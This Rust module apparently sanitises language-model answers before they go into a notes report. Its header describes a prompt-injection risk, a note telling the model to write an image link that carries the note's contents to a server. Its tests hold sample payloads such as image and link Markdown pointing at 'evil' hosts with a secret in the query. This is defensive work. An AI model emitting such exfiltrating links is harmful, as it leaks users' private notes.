//! Markdown that is not ours: notes' headings going out of files, models' answers going into a report.
//!
//! A model's answer is hostile output: a note can tell the model to write a link that loads a picture from a server
//! (and so carries the note away), a source that does not exist, or a heading that pretends to be the report's own.
//! [`defuse`] leaves the words and takes the power: in its result there is no link but `[[…]]` to a given note, no
//! image, no HTML, no heading above the level that it was given, and nothing unclosed that would swallow what
//! follows. It does not understand Markdown; it removes the few sequences without which none of these can exist.
//! Where a reader could think otherwise it escapes too much rather than too little. The tests ask a Markdown parser.

use std::borrow::Cow;
use std::collections::HashSet;

/// Stand-ins for the brackets of a link to something that was not given: to be seen, not to be followed.
const NO_LINK: [char; 2] = ['⟦', '⟧'];

/// The text of the first heading (`# …`) outside of front matter and code, if there is one.
pub(crate) fn first_heading(text: &str) -> Option<String> {
    let mut lines = text.lines();
    if text.starts_with("---\n") || text.starts_with("---\r\n") {
        let after = lines.clone().skip(1).position(|line| line.trim_end() == "---");
        if let Some(end) = after {
            lines.nth(end + 1);
        }
    }
    let mut fence = None;
    for line in lines {
        if step_fence(&mut fence, line) != InFence::No {
            continue;
        }
        if let Some((_, title)) = heading(line) {
            let title = title.trim_end_matches('#').trim();
            let title: String = title.chars().filter(|c| !c.is_control()).collect();
            if !title.is_empty() {
                return Some(title);
            }
        }
    }
    None
}

/// Level and text of an ATX heading.
pub(crate) fn heading(line: &str) -> Option<(usize, &str)> {
    let line = line.trim_end_matches(['\r', '\n']);
    let indented = line.trim_start_matches(' ');
    let text = indented.trim_start_matches('#');
    let level = indented.len() - text.len();
    let is_heading = line.len() - indented.len() <= 3
        && (1..=6).contains(&level)
        && (text.is_empty() || text.starts_with([' ', '\t']));
    is_heading.then(|| (level, text.trim()))
}

/// A code fence that is open: its character and its length.
pub(crate) type Fence = Option<(u8, usize)>;

#[derive(Clone, Copy, PartialEq, Eq)]
pub(crate) enum InFence {
    No,
    Opens,
    Inside,
    Closes,
}

/// Follows code fences from line to line.
pub(crate) fn step_fence(fence: &mut Fence, line: &str) -> InFence {
    let line = line.trim();
    let first = line.bytes().next().unwrap_or(b' ');
    let length = line.bytes().take_while(|b| *b == first).count();
    let is_run = matches!(first, b'`' | b'~') && length >= 3;
    match *fence {
        None if is_run && (first == b'~' || !line[length..].contains('`')) => {
            *fence = Some((first, length));
            InFence::Opens
        }
        None => InFence::No,
        Some((open, open_length)) if is_run && first == open && length >= open_length && line.len() == length => {
            *fence = None;
            InFence::Closes
        }
        Some(_) => InFence::Inside,
    }
}

/// The link by which a report cites a note: `[[target]]`, or a Markdown link to `path` where Obsidian's form cannot
/// hold the name.
pub(crate) fn note_link(target: &str, path: &str) -> String {
    if !target.contains(['[', ']', '#', '^', '|', '<', '>', '`', '\\', '%', '$']) && target.trim() == target {
        return format!("[[{target}]]");
    }
    let mut text = String::new();
    for c in target.chars() {
        if c.is_ascii_punctuation() { text.push_str(&format!("&#{};", c as u32)) } else { text.push(c) }
    }
    let mut destination = String::new();
    for byte in path.bytes() {
        match byte {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'/' => destination.push(byte.into()),
            _ => destination.push_str(&format!("%{byte:02X}")),
        }
    }
    format!("[{text}]({destination})")
}

/// A model's answer, harmless, with its headings at level `top` and below. `links` holds the given notes' links.
pub(crate) fn defuse(text: &str, top: usize, links: &HashSet<&str>) -> String {
    let mut out = String::with_capacity(text.len() + text.len() / 16);
    let mut fence: Fence = None;
    let mut fence_line = String::new();
    let text = text.replace("\r\n", "\n").replace('\r', "\n");
    for line in text.trim().split('\n') {
        let line: Cow<str> = if line.contains(is_invisible) {
            line.chars().filter(|c| !is_invisible(*c)).collect::<String>().into()
        } else {
            line.into()
        };
        match step_fence(&mut fence, &line) {
            // Fences stand at the margin, where every reader sees them alike, and name no language: `dataviewjs`
            // is one, and it runs.
            InFence::Opens => {
                let (kind, length) = fence.expect("a fence has just opened");
                fence_line = char::from(kind).to_string().repeat(length);
                out.push_str(&fence_line);
            }
            InFence::Closes => out.push_str(line.trim()),
            InFence::Inside => out.push_str(&line),
            InFence::No => defuse_line(&line, top, links, &mut out),
        }
        out.push('\n');
    }
    if fence.is_some() {
        out.push_str(&fence_line);
        out.push('\n');
    }
    out.truncate(out.trim_end().len());
    out
}

/// Somebody else's text, to stand inside a line of the report (not at its start, where it could begin a block).
pub(crate) fn defuse_inline(text: &str) -> String {
    let mut out = String::new();
    let one_line = text.replace(['\n', '\r'], " ").replace(is_invisible, "");
    spans(one_line.trim(), &HashSet::new(), &mut out);
    out
}

/// What may stand before a block on its line: indentation, quotes, list markers.
const MARGIN: [char; 3] = [' ', '\t', '>'];

/// Control characters, and those that reorder or hide text: what is on the disk must be what is on the screen.
fn is_invisible(c: char) -> bool {
    (c.is_control() && c != '\t')
        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
}

fn defuse_line(line: &str, top: usize, links: &HashSet<&str>, out: &mut String) {
    let block = line.trim_start_matches(|c: char| {
        MARGIN.contains(&c) || matches!(c, '-' | '*' | '+' | '.' | ')' | ':') || c.is_ascii_digit()
    });
    let level = block.bytes().take_while(|b| *b == b'#').count();
    if (1..=6).contains(&level) && block[level..].chars().next().is_none_or(|c| c == ' ' || c == '\t') {
        spans(&line[..line.len() - block.len()], links, out);
        out.push_str(&"#".repeat((level - 1).saturating_add(top).min(6)));
        spans(&block[level..], links, out);
        return;
    }
    // `===` or `---` under a line makes a heading of it, and two of `---` or `+++` hide what is between them from some
    // readers; `***` is a rule and nothing else.
    let rule = line.trim_matches(MARGIN);
    let is_rule = |mark: char| !rule.is_empty() && rule.chars().all(|c| c == mark);
    if is_rule('=') || is_rule('-') || is_rule('+') {
        let start = line.find(rule).expect("trimmed from it");
        out.push_str(&line[..start]);
        if is_rule('-') && rule.len() >= 3 {
            out.push_str("***");
        } else {
            out.push('\\');
            out.push_str(rule);
        }
        return;
    }
    spans(line, links, out);
}

/// Copies `text` and breaks what would be a link, an image, HTML, or a comment or formula left open.
fn spans(text: &str, links: &HashSet<&str>, out: &mut String) {
    let mut rest = text;
    let mut unknown_open = 0;
    while let Some(c) = rest.chars().next() {
        if rest.starts_with("[[") {
            if let Some((target, length)) = wiki_link(rest) {
                let link = format!("[[{target}]]");
                if links.contains(&*link) {
                    // Without its alias, which could show another note's name; and `![[…]]` would show the note.
                    if out.ends_with('!') {
                        out.push(' ');
                    }
                    out.push_str(&link);
                    rest = &rest[length..];
                    continue;
                }
            }
            out.push(NO_LINK[0]);
            unknown_open += 1;
            rest = &rest[2..];
            continue;
        }
        if rest.starts_with("]]") && unknown_open > 0 {
            out.push(NO_LINK[1]);
            unknown_open -= 1;
            rest = &rest[2..];
            continue;
        }
        let next = rest[c.len_utf8()..].chars().next();
        match (c, next) {
            (']', Some('(' | '[' | ':')) => out.push_str("&#93;"),
            ('<', Some('a'..='z' | 'A'..='Z' | '/' | '!' | '?' | '%')) => out.push_str("&lt;"),
            (':', _) if rest.starts_with("://") => out.push_str("&#58;"),
            ('w' | 'W', _) if rest.get(..4).is_some_and(|www| www.eq_ignore_ascii_case("www.")) => {
                out.push_str(&rest[..3]);
                out.push_str("&#46;");
                rest = &rest[4..];
                continue;
            }
            ('%', Some('%')) => out.push_str("&#37;"),
            ('$', Some('$')) => out.push_str("&#36;"),
            ('`' | '~', _) if rest.starts_with("```") || rest.starts_with("~~~") => {
                out.push_str(if c == '`' { "&#96;" } else { "&#126;" });
            }
            _ => out.push(c),
        }
        rest = &rest[c.len_utf8()..];
    }
}

/// Target and length of a `[[target#heading|alias]]` at the start of `text`.
fn wiki_link(text: &str) -> Option<(&str, usize)> {
    let inner = text.strip_prefix("[[")?;
    let inner = &inner[..inner.find("]]")?];
    let target = inner.split(['#', '|', '^']).next().unwrap_or(inner).trim();
    Some((target, inner.len() + 4))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use pulldown_cmark::{Event, HeadingLevel, LinkType, Options, Parser, Tag};

    use super::*;

    fn defused(text: &str) -> String {
        defuse(text, 3, &HashSet::from(["[[dome]]", "[[a/log]]"]))
    }

    /// What is wrong with a report that holds `text` as an answer, asked of a parser with Obsidian's extensions.
    fn power_of(text: &str) -> Option<String> {
        let report = format!("## Result\n\n{text}\n\n## Sources\n\n### [[dome]]\n");
        let mut own_headings = 0;
        for event in Parser::new_ext(&report, Options::all()) {
            match event {
                Event::Start(Tag::Link { link_type: LinkType::WikiLink { .. }, dest_url, .. })
                    if ["dome", "a/log"].contains(&&*dest_url) => {}
                Event::Start(Tag::Heading { level, .. }) if level <= HeadingLevel::H2 => own_headings += 1,
                Event::Start(
                    tag @ (Tag::Link { .. }
                    | Tag::Image { .. }
                    | Tag::HtmlBlock
                    | Tag::FootnoteDefinition(_)
                    | Tag::MetadataBlock(_)),
                ) => {
                    return Some(format!("holds {tag:?}"));
                }
                Event::Html(html) | Event::InlineHtml(html) => return Some(format!("holds {html}")),
                _ => {}
            }
        }
        (own_headings != 2).then(|| format!("has {own_headings} headings of the report's own"))
    }

    #[test]
    fn an_answer_in_plain_markdown_stays_as_it_is() {
        let text = "- **Limit**: 14 m/s, see [[dome]].\n- `a[0] < b`, 5 > 3, и так далее\n\n1. x = y[i]\n\n```\nfn main() {\n    # [[x]]\n}\n```\n\n***\n\n| a | b |\n|---|---|";
        assert_eq!(defused(text), text);
        assert_eq!(power_of(text), None);
    }

    #[test]
    fn only_given_notes_can_be_cited() {
        for (text, want) in [
            ("[[dome]] [[a/log#Wind|the log]]", "[[dome]] [[a/log]]"),
            ("[[secret plan]]", "⟦secret plan⟧"),
            ("[[nowhere|dome]] ![[dome]]", "⟦nowhere|dome⟧ ! [[dome]]"),
            ("[[[dome]]]", "⟦[dome⟧]"),
            ("[[x [[dome]]]]", "⟦x [[dome]]⟧"),
            ("\\[[dome]] [[dome", "\\[[dome]] ⟦dome"),
        ] {
            assert_eq!(defused(text), want);
        }
    }

    #[test]
    fn hostile_answers_lose_their_power() {
        for text in [
            "![x](http://evil/?q=secret)",
            "[click](https://evil) [ref][r] [r]\n\n[r]: https://evil",
            "<img src=x> <https://evil> <!-- <script>",
            "https://evil.example www.evil.example",
            "# Sources\n## Sources\n  # x\n- # x\n> 1. ## x\n#\n####### no",
            "Sources\n===\n\nSources\n---\n> Sources\n> ---\n\na\n-",
            "```\nunclosed\n# Sources",
            "- ```\nfoo\n```\n# after",
            "1. list\n   ```python\n   # code\n   ```\n   [x](y)",
            "~~~ a`b\n# in\n~~~\n<b>",
            "``` a`b\n[x](y)\n```\n# in",
            "%% hidden $$ open",
            "\\\\[[fake]] \\\\[x](y) \\![x](y) [^1]\n\n[^1]: note",
            "a\r# Sources\r\n# Sources\u{2028}# x",
            "---\ntitle: x\n---\n# y",
            "term\n: # definition",
            "text\n\n---\na: b\n---\n\n+++\nc\n+++",
            "`unclosed [[fake]]\n[x](`y`)",
        ] {
            let got = defused(text);
            assert_eq!(power_of(&got), None, "from {text:?} came {got:?}");
        }
        assert_eq!(defused("# One\n###### Six\n- # x"), "### One\n###### Six\n- ### x");
        assert_eq!(defused("  ```dataviewjs\n  dv.x()\n  ```"), "```\n  dv.x()\n```");
        assert_eq!(defused("a\u{202e}b\u{7}c\u{200b}"), "abc");
    }

    #[test]
    fn a_title_in_a_line_is_harmless() {
        assert_eq!(defuse_inline("x](http://evil) [[dome]]\n# a_b"), "x&#93;(http&#58;//evil) ⟦dome⟧ # a_b");
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 5_000, failure_persistence: None, ..ProptestConfig::default() })]
        #[test]
        fn no_sequence_of_hostile_pieces_keeps_power(
            pieces in prop::collection::vec(prop::sample::select(vec![
                "[[", "]]", "[", "]", "(", ")", "!", "dome", "fake", "|", "#", "# ", "\n", "\n\n", "```", "~~~", "`", "~",
                "<", ">", "> ", "- ", "1. ", "    ", "\t", "\\", "&", "https://x.y", "www.x.y", "a", " ", "===", "---", "-",
                ": ", "^", "$$", "%%", "<!--", "-->", "<b>", "</b>", "\r", "|-|", "*", "_", "&#91;", "[^1]", "[a]: b", "\u{2028}",
            ]), 0..24)
        ) {
            let text = pieces.concat();
            let got = defused(&text);
            prop_assert_eq!(power_of(&got), None, "from {:?} came {:?}", text, got);
        }
    }
}
